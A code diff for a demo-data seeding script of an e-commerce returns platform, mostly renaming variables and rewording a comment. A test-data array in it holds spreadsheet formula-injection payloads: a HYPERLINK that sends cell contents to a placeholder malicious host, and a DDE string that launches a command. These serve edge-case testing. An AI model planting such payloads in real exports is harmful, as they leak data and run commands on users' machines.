@@ -6,7 +6,7 @@ import { billingFees, billingQuotas, quotaUse, subscriptions } from '#server/db/
 import { billingItems, billings, courierTransfers, feedbacks } from '#server/db/schema/platform/reports.ts'
 import { reverses } from '#server/db/schema/platform/reverses.ts'
 import { getFirstDay, listLastMonths } from '#server/platform/ecommerces/billing.ts'
-import { day } from './merchants.ts'
+import { DAY_MS } from './merchants.ts'
 import { demoUsers } from './people.ts'
 import {
   continueSequence,
@@ -234,7 +234,7 @@ const pickScore = createWeightedPicker([
   ] as const),
 ])
 
-/** Comments that a spreadsheet would execute, misread or split, and a very long one. */
+/** Comments that a spreadsheet would execute, misread or split into columns, and a very long comment. */
 const edgeCaseComments = [
   '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -260,8 +260,8 @@ function makeFeedbacks(random: Random, rows: readonly Reverse[]) {
 function makeFeedback(random: Random, { id, ecommerce_id, updated_at }: Reverse, scenarioComment?: string) {
   const score = pickScore(random)
   const comment = scenarioComment ?? random.pick(score > 8 ? praise : score > 5 ? remarks : complaints)
-  const at = Math.min(updated_at.getTime() + random.between(1, 96) * 3_600_000, demoToday.getTime())
-  return { reverse_id: id, ecommerce_id, score, comment, created_at: new Date(at).toISOString() }
+  const createdAt = Math.min(updated_at.getTime() + random.between(1, 96) * 3_600_000, demoToday.getTime())
+  return { reverse_id: id, ecommerce_id, score, comment, created_at: new Date(createdAt).toISOString() }
 }
 
 const carriers = [
@@ -277,7 +277,7 @@ const carriers = [
  */
 function makeTransfers(random: Random, { id, ecommerce_id, status, tracking_code, created_at }: Reverse) {
   const hasFreight = receivedStatuses.has(status) || status === 'shipped' || status === 'delivered'
-  const transferredAt = created_at.getTime() + random.between(10, 40) * day
+  const transferredAt = created_at.getTime() + random.between(10, 40) * DAY_MS
   if (tracking_code === null || !hasFreight || transferredAt > demoToday.getTime() || random.chance(0.15)) return []
   const { carrier, services } = random.chance(0.6) ? carriers[0] : random.pick(carriers)
   const freight = random.between(1290, 8990)
